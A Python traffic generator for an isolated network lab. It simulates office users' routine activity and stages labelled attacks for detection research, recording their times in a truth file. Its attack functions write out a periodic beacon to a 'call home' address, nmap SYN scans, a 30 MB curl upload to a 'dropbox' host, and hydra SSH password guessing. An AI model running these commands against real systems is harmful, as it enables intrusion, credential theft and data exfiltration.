#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""people.py - what the lab's people and machines do, and the attacks; writes down the truth.

    people.py --prefix P --work DIR --out DIR --seconds N --seed N

Every action is a real program (curl, wget, dig, ssh, scp, ping, nmap, hydra) in the namespace of
its host. What they do and in which order is drawn from the seed; when it happens is real time, so
two runs are alike, not equal. The first LEARN_SHARE of the time has no attack in it.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import json
import random
import shlex
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

LEARN_SHARE = 0.37
CLIENTS = [f"c{i}" for i in range(11, 23)]
SITES = ["news", "shop", "docs", "cdn"]

# Who attacks. Each is an office machine with a person at it (or, the guesser, an Internet host);
# the targets are chosen so that address, port and time tell an attack from that person's own work.
BEACON, SCANNER, UPLOADER, GUESSER = "c15", "c21", "c18", "guesser"
CALL_HOME_IP, DROPBOX_IP = "203.0.113.66", "192.0.2.99"
BEACON_EVERY_S, BEACON_JITTER = 5.0, 0.3
UPLOAD_BYTES = 30_000_000
PASSWORDS = 330


@dataclass
class Lab:
    """The run's settings and the moments of its schedule, in seconds since 1970."""

    prefix: str
    work: Path
    seed: int
    start: float
    learn_end: float
    end: float

    def rng(self, *names: str) -> random.Random:
        return random.Random(" ".join([str(self.seed), *names]))

    def run(self, host: str, command: str, limit_s: float = 120) -> None:
        """Run a program in a host's namespace, no longer than limit_s and not past the end.

        Whether it succeeds is part of the traffic, not of the lab, so nobody asks.
        """
        left = min(limit_s, self.end - time.time())
        if left <= 0:
            return
        argv = ["ip", "netns", "exec", f"{self.prefix}-{host}", *shlex.split(command)]
        quiet = subprocess.DEVNULL
        with contextlib.suppress(subprocess.TimeoutExpired):  # run() has ended the program then
            subprocess.run(
                argv, stdin=quiet, stdout=quiet, stderr=quiet, timeout=left, cwd=self.work
            )

    def sleep(self, seconds: float) -> bool:
        """Sleep; False when the lab's time is over."""
        left = self.end - time.time()
        time.sleep(max(0.0, min(seconds, left)))
        return time.time() < self.end

    def sleep_until(self, moment: float) -> bool:
        return self.sleep(moment - time.time())

    def curl(self, host: str, arguments: str, limit_s: float = 60) -> None:
        fixed = f"curl -s -o /dev/null --cacert {self.work}/tls.crt "
        self.run(host, fixed + arguments, limit_s=limit_s)

    def ssh_options(self) -> str:
        known = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
        return f"-q -i {self.work}/user.key -o IdentitiesOnly=yes {known}"


def think(rng: random.Random, typical_s: float) -> float:
    """A human pause: mostly short, sometimes long (log-normal), never machine-regular."""
    return min(typical_s * 8, rng.lognormvariate(0.0, 0.9) * typical_s)


# --- habits: each is a thread per host that ends with the lab's time ---


def browse(lab: Lab, host: str) -> None:
    """Read pages: a page with its pictures, a pause, a few links, then a longer pause."""
    rng = lab.rng(host, "browse")
    small_sites = [f"s{i}" for i in range(101, 131)]
    favourites = rng.sample(SITES, 3) + rng.sample(small_sites, 4)
    while lab.sleep(think(rng, 10)):
        site = rng.choice(favourites if rng.random() < 0.85 else small_sites)
        base = f"{rng.choice(['http', 'https', 'https'])}://{site}.example.com/"
        for _ in range(rng.randint(1, 3)):
            links = [base + f"p{rng.randrange(60)}" for _ in range(rng.randint(1, 4))]
            if rng.random() < 0.15:
                lab.run(host, "wget -q -O /dev/null --no-check-certificate " + " ".join(links))
            else:
                version = "-6" if site == "docs" and rng.random() < 0.6 else "-4"
                parallel = "-Z" if rng.random() < 0.4 else ""
                pictures = " ".join(f"{link} -o /dev/null" for link in links)
                lab.curl(host, f"{version} {parallel} {base} {pictures}")
            if not lab.sleep(think(rng, 3)):
                return


def use_intranet(lab: Lab, host: str) -> None:
    if host == SCANNER:  # this person never opens the intranet, which the scan visits
        return
    rng = lab.rng(host, "intranet")
    while lab.sleep(think(rng, 25)):
        lab.curl(host, f"http://intranet.office.test/p{rng.randrange(60)}")


def look_up(lab: Lab, host: str) -> None:
    """Names that other programs ask for; about one in nine does not exist."""
    rng = lab.rng(host, "dig")
    while lab.sleep(think(rng, 30)):
        kind = rng.choice(["A", "A", "AAAA", "MX", "TXT"])
        small, gone = f"s{rng.randrange(101, 131)}", f"gone{rng.randrange(50)}"
        name = rng.choice([*SITES, *SITES, small, gone])
        lab.run(host, f"dig +tries=2 +time=2 {kind} {name}.example.com")


def work_over_ssh(lab: Lab, host: str, server: str = "shell.office.test") -> None:
    """Sessions with a key: commands with pauses between them, and small copies."""
    rng = lab.rng(host, "ssh")
    commands = ["ls -la /usr/bin", "df -h", "uptime", "cat notes.txt", "ps ax", "uname -a", "id"]
    while lab.sleep(think(rng, 40)):
        if rng.random() < 0.3:
            copy = f"scp {lab.ssh_options()} ana@{server}:notes.txt {lab.work}/copy-{host}"
            lab.run(host, copy, limit_s=20)
            continue
        steps = range(rng.randint(2, 7))
        script = "; ".join(f"{rng.choice(commands)}; sleep {think(rng, 2):.2f}" for _ in steps)
        lab.run(host, f"ssh {lab.ssh_options()} ana@{server} '{script}'", limit_s=60)


def report_to_monitor(lab: Lab, host: str) -> None:
    """An agent on every client, every 15 s to one internal server: regular, prevalent, harmless."""
    rng = lab.rng(host, "monitor")
    lab.sleep(rng.uniform(0, 15))
    body = "cpu=" + "7" * 300
    while lab.sleep(15 + rng.uniform(-0.4, 0.4)):
        lab.curl(host, f"-d {body} http://10.20.1.90:8080/push")


def check_updates(lab: Lab, host: str) -> None:
    """Every client asks the same Internet server every 60 s; sometimes there is a package."""
    rng = lab.rng(host, "updates")
    lab.sleep(rng.uniform(0, 60))
    while lab.sleep(60 + rng.uniform(-2, 2)):
        path = "update" if rng.random() < 0.12 else "p7"
        lab.curl(host, f"https://updates.example.com/{path}")


def hit_closed_doors(lab: Lab, host: str) -> None:
    """A service that was moved, a printer that is off, a site that is gone."""
    rng = lab.rng(host, "closed")
    moved = ["http://shell.office.test:8443/", "http://news.example.com:8081/"]
    gone = ["http://10.20.1.99:9100/", "http://10.20.1.98:631/", "http://203.0.113.200/"]
    while lab.sleep(think(rng, 60)):
        lab.curl(host, f"-m 4 {rng.choice(moved + gone)}")


def listen_to_music(lab: Lab, host: str) -> None:
    """A long slow download: one flow of most of a minute."""
    rng = lab.rng(host, "music")
    while lab.sleep(think(rng, 20)):
        lab.curl(host, "--limit-rate 60k https://cdn.example.com/stream", limit_s=75)


def share_photos(lab: Lab, host: str) -> None:
    """Uploads to a site that others use too: 0.2 to 2 MB."""
    rng = lab.rng(host, "photos")
    photo = lab.work / f"photo-{host}"
    while lab.sleep(think(rng, 50)):
        photo.write_bytes(rng.randbytes(rng.randrange(200_000, 2_000_000)))
        lab.curl(host, f"-T {photo} https://docs.example.com/put/{rng.randrange(9999)}")


def back_up(lab: Lab, host: str) -> None:
    """A large copy that stays inside: 12 MB to the file server, once in each part of the run."""
    archive = lab.work / f"backup-{host}"
    archive.write_bytes(lab.rng(host, "backup").randbytes(12_000_000))
    for moment in ((lab.start + lab.learn_end) / 2, lab.learn_end + 60):
        if lab.sleep_until(moment):
            lab.run(host, f"scp {lab.ssh_options()} {archive} ana@files.office.test:backup")


def ping_sites(lab: Lab, host: str) -> None:
    """The monitoring server and one curious person ask whether the sites are up."""
    rng = lab.rng(host, "ping")
    while lab.sleep(think(rng, 20)):
        lab.run(host, f"ping -q -c 3 -i 0.4 {rng.choice(SITES)}.example.com")


# --- attacks ---


def call_home(lab: Lab) -> None:
    """By name in TLS and HTTP, but without a DNS lookup: one beat is exactly one connection."""
    rng = lab.rng("beacon")
    host = f"-k --resolve static-sync.example.net:443:{CALL_HOME_IP} -A sync/2.1"
    while True:
        page = rng.choice([3, 3, 3, 3, 4])
        lab.curl(BEACON, f"{host} https://static-sync.example.net/p{page}")
        if not lab.sleep(BEACON_EVERY_S * rng.uniform(1 - BEACON_JITTER, 1 + BEACON_JITTER)):
            return


def guess_passwords(lab: Lab) -> None:
    rng = lab.rng("passwords")
    words = ["summer", "admin", "office", "backup"]
    path = lab.work / "passwords"
    guesses = [f"{rng.choice(words)}{rng.randrange(10**6)}\n" for _ in range(PASSWORDS)]
    path.write_text("".join(guesses))
    # -w: seconds to wait when the server hangs up after too many tries (32 by default).
    lab.run(GUESSER, f"hydra -I -l backup -P {path} -t 4 -w 3 ssh://10.20.1.22")


def upload(lab: Lab) -> None:
    path = lab.work / "archive"
    path.write_bytes(lab.rng("archive").randbytes(UPLOAD_BYTES))
    lab.curl(UPLOADER, f"-k --limit-rate 1500k -T {path} https://{DROPBOX_IP}/put/archive")


def scan(lab: Lab, ports: str, target: str, per_second: int) -> None:
    fixed = "nmap -sS -Pn -n --max-retries 0"
    lab.run(SCANNER, f"{fixed} --max-rate {per_second} -p {ports} {target}")


@dataclass
class Episode:
    """One row of truth.csv, and how to bring it about."""

    kind: str
    src: str
    dst: str
    dst_port: str
    meaning: str
    from_s: float  # after the end of the learning part
    act: Callable[[Lab], None]
    start: float = 0.0
    end: float = 0.0

    def play(self, lab: Lab) -> None:
        """Attack, and write down when it really began and ended."""
        lab.sleep_until(lab.learn_end + self.from_s)
        self.start = time.time()
        self.act(lab)
        self.end = time.time()
        print(f"people: {self.kind}: {self.src} to {self.dst}, {self.end - self.start:.0f} s")

    def row(self) -> list[str]:
        times = [f"{self.start:.3f}", f"{self.end:.3f}"]
        return [self.kind, self.src, self.dst, self.dst_port, *times, self.meaning]


def episodes(lab: Lab) -> list[Episode]:
    span = lab.end - lab.learn_end
    return [
        Episode("beacon", "10.20.0.15", CALL_HOME_IP, "443",
                "HTTPS request every 5 s +-30 %", 5, call_home),
        Episode("scan", "10.20.0.21", "10.20.1.0/24", "22;445;3389",
                "nmap SYN scan of three ports on a /24", 0.15 * span,
                lambda lab: scan(lab, "22,445,3389", "10.20.1.0/24", 40)),
        Episode("scan", "10.20.0.21", "10.20.1.80", "1-1000",
                "nmap SYN scan of one host", 0.40 * span,
                lambda lab: scan(lab, "1-1000", "10.20.1.80", 100)),
        Episode("upload", "10.20.0.18", DROPBOX_IP, "443",
                "30 MB PUT to a host nobody else uses", 0.55 * span, upload),
        Episode("password_guessing", "198.51.100.77", "10.20.1.22", "22",
                "hydra guesses one account's SSH password", 0.65 * span, guess_passwords),
    ]  # fmt: skip


def everybody() -> list[tuple[Callable[..., None], tuple[str, ...]]]:
    """Who has which habit."""
    common = (browse, use_intranet, look_up, report_to_monitor, check_updates, hit_closed_doors)
    habits: list[tuple[Callable[..., None], tuple[str, ...]]] = []
    habits += [(habit, (host,)) for host in CLIENTS for habit in common]
    habits += [(work_over_ssh, (host,)) for host in ("c11", "c13", "c16", "c19")]
    habits += [(work_over_ssh, ("homework", "10.20.1.23")), (work_over_ssh, ("c12", "10.20.1.22"))]
    habits += [(listen_to_music, (host,)) for host in ("c14", "c20")]
    habits += [(share_photos, (host,)) for host in ("c12", "c18", "c22")]
    return [*habits, (back_up, ("c17",)), (ping_sites, ("c16",)), (ping_sites, ("monitor",))]


def write_truth(lab: Lab, played: list[Episode], out: Path) -> None:
    with open(out / "truth.csv", "w", newline="") as f:
        rows = csv.writer(f, lineterminator="\n")
        rows.writerow(["kind", "src", "dst", "dst_port", "start", "end", "meaning"])
        rows.writerows(episode.row() for episode in sorted(played, key=lambda e: e.start))
    moments = {"start": lab.start, "learn_end": lab.learn_end, "end": lab.end, "seed": lab.seed}
    (out / "schedule.json").write_text(json.dumps(moments) + "\n")


def main() -> int:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n", 1)[0])
    parser.add_argument("--prefix", required=True)
    parser.add_argument("--work", type=Path, required=True)
    parser.add_argument("--out", type=Path, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--seed", type=int, required=True)
    a = parser.parse_args()
    start = time.time()
    lab = Lab(a.prefix, a.work, a.seed, start, start + LEARN_SHARE * a.seconds, start + a.seconds)
    planned = episodes(lab)
    threads = [threading.Thread(target=habit, args=(lab, *args)) for habit, args in everybody()]
    threads += [threading.Thread(target=episode.play, args=(lab,)) for episode in planned]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    write_truth(lab, planned, a.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
